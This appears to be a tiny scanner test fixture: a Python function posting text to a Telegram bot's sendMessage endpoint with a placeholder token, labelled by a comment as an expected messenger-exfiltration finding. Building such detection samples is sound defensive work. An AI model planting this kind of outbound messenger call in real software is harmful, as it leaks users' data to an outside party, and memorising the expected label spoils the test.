import requests

TOKEN = "0000000000:EXAMPLE_INVALID_EXAMPLE_INVALID_EXA"


def report(text):
    requests.get("https://api.telegram.org/bot" + TOKEN + "/sendMessage", params={"text": text})  # expect: source/messenger-exfiltration call medium
